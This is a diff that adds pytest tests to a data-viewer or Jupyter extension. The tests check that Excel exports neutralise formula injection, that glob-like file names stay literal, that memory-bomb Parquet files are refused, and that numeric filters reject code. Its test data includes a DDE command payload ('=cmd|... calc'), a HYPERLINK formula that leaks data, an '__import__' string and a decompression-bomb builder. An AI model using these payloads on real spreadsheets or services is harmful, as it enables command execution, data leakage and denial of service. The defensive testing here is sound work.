@@ -5,21 +5,27 @@ from __future__ import annotations
 import base64
 import contextlib
 import datetime as dt
+import io
 import json
 import os
 import re
+import shutil
 import socket
 import sys
 import threading
+import zipfile
 from collections.abc import Iterator
 from importlib.util import find_spec
 from pathlib import Path
 from typing import Any
 
 import polars as pl
+import pyarrow as pa
+import pyarrow.parquet as parquet
 import pytest
 
 from data_engine import FlowValidationError, file_check
+from data_engine.compare.comparing import compare
 from data_engine.file_check import file_exists
 from jupyter_extension.conditions import OPS
 from jupyter_extension.excel_export import export
@@ -433,3 +439,140 @@ def test_a_drive_that_does_not_answer_leaves_the_question_open(monkeypatch: pyte
         thread.join()
     monkeypatch.setattr(file_check, "PATIENCE_S", 60.0)
     assert file_exists("/share/a", look) is True
+
+
+def test_texts_stay_texts_in_a_workbook(tmp_path: Path) -> None:
+    """Nothing that somebody wrote into a file is a formula or a link of whoever opens the download; what Excel would round is whole."""
+    texts = [
+        '=HYPERLINK("https://example.org/?" & A1)',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "@SUM(1)",
+        "{=1}",
+        "https://example.org",
+    ]
+    path = tmp_path / "a.parquet"
+    pl.DataFrame(
+        {"text": texts, "=1+1": texts, "n": [2**60 + n for n in range(6)], "list": [[one] for one in texts]}
+    ).write_parquet(path)
+
+    made = page(path, export=True)
+    inspect({"path": str(path), "part": {"name": made["name"], "offset": 0}})
+    data = base64.b64decode(
+        inspect({"path": str(path), "part": {"name": page(path, export=True)["name"], "offset": 0}})["base64"]
+    )
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheet = "".join(book.read(name).decode() for name in book.namelist() if "sheet" in name)
+
+    assert "<f>" not in sheet
+    assert "hyperlink" not in sheet.lower()
+    saved = pl.read_excel(io.BytesIO(data))
+    assert saved["text"].to_list() == texts
+    assert saved["n"].to_list() == [str(2**60 + n) for n in range(6)]
+
+
+@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".tsv", ".json", ".ndjson", ".arrow", ".xlsx"])
+@pytest.mark.parametrize("name", ["a[1]", "a{1,2}", "ü [!x]", *(["a*", "a?"] if os.name == "posix" else [])])
+def test_a_file_is_opened_by_its_name_and_never_as_a_pattern(tmp_path: Path, name: str, suffix: str) -> None:
+    """Neither shown, nor in the code for a cell, nor below a folder, nor compared."""
+    folder = tmp_path / "in [1]"
+    for place in (folder, tmp_path / "in 1"):
+        place.mkdir()
+        for one in (name, "a1", "a2", "ü x"):
+            write(pl.DataFrame({"n": [one]}), place / f"{one}{suffix}")
+    path = folder / f"{name}{suffix}"
+    code = page(path, code="polars")["code"]
+
+    assert page(path)["rows"] == [[name]]
+    assert runs(code)["n"].to_list() == [name]
+    if suffix not in (".json", ".xlsx"):
+        of_folder = page(folder, code="polars")["code"]
+        assert (
+            sorted(row[0] for row in page(folder)["rows"])
+            == sorted(runs(of_folder)["n"])
+            == sorted([name, "a1", "a2", "ü x"])
+        )
+    assert not compare(path, folder / f"a1{suffix}").equal
+    assert compare(path, shutil.copyfile(path, tmp_path / f"same{suffix}")).equal
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [{"sort": [["text", True]]}, {"sort": [["n", True]], "limit": 500_000}, {"export": True}, {"limit": 500_000}],
+)
+def test_a_small_file_that_is_large_in_memory_is_refused_before_it_is_read(
+    tmp_path: Path, asked: dict[str, Any]
+) -> None:
+    """By rows times bytes; its first page is shown all the same, and so is what a filter leaves."""
+    path = tmp_path / "bomb.parquet"
+    write_large(path)
+    assert path.stat().st_size < 100_000
+
+    with pytest.raises(FlowValidationError, match="GB of memory") as raised:
+        page(path, **asked)
+
+    assert "filter" in str(raised.value.fix)
+    assert page(path)["total"] == 6000
+    assert page(path, **{**asked, "export": False}, filters=[{"column": "n", "op": "<", "value": "3"}])["total"] == 3
+
+
+def test_what_takes_too_much_memory_while_it_runs_is_ended(tmp_path: Path) -> None:
+    """What no estimate foresees: the child says so, and the next one answers."""
+    path = tmp_path / "bomb.parquet"
+    write_large(path, small_at_first=True)
+    child = InspectChild((sys.executable, "-c", CAPPED))
+    try:
+        with pytest.raises(FlowValidationError, match="GB of memory") as raised:
+            child.ask({"path": str(path), "sort": [["text", True], ["n", True]]})
+        assert "in a cell" in str(raised.value.fix)
+        assert child.ask({"path": str(path)})["total"] == 6000
+    finally:
+        child.close()
+
+
+CAPPED = """
+from jupyter_extension import inspector
+from jupyter_extension.child_loop import serve
+serve(inspector.inspect, failed="no", most_bytes=1 * 2**30)
+"""
+
+
+def write_large(path: Path, *, small_at_first: bool = False) -> None:
+    """A few kilobytes of Parquet that are 6 GB of texts."""
+    indices = [0 if small_at_first and n < 1000 else 1 for n in range(6000)]
+    texts = pa.DictionaryArray.from_arrays(pa.array(indices, pa.int32()), ["y", "x" * 1_000_000])
+    parquet.write_table(pa.table({"n": range(6000), "text": texts}), path, store_schema=False)
+
+
+def write(frame: pl.DataFrame, path: Path) -> None:
+    """The frame as the file that its suffix says."""
+    kind = {".tsv": "csv", ".arrow": "ipc", ".xlsx": "excel"}.get(path.suffix, path.suffix[1:])
+    with open(path, "wb") as file:
+        getattr(frame, f"write_{kind}")(file)
+
+
+def runs(code: str) -> pl.DataFrame:
+    """The table that a cell with this code makes."""
+    *before, last = code.split("\n\n")
+    names: dict[str, Any] = {}
+    exec("\n".join(before), names)
+    made: pl.DataFrame = eval(last, names)
+    return made
+
+
+@pytest.mark.parametrize(
+    "text", ["nan", "inf", "-inf", "1e999", "Infinity", "1" * 5000, "__import__('os')", "3)", "", None, [], {}, True]
+)
+def test_a_filter_of_a_number_takes_numbers_only(table: Path, text: Any) -> None:
+    with pytest.raises(FlowValidationError, match="is not a number") as raised:
+        page(table, filters=[{"column": "amount", "op": ">", "value": text}])
+
+    assert (raised.value.where, raised.value.fix) == ("filter of amount", "give a number such as -12.5")
+
+
+def test_a_long_whole_number_is_not_rounded(tmp_path: Path) -> None:
+    path = tmp_path / "a.parquet"
+    pl.DataFrame({"n": [2**60, 2**60 + 1]}).write_parquet(path)
+
+    assert page(path, filters=[{"column": "n", "op": ">", "value": str(2**60)}])["total"] == 1
+    assert page(path, filters=[{"column": "n", "op": "<", "value": "1" + "0" * 40}])["total"] == 2
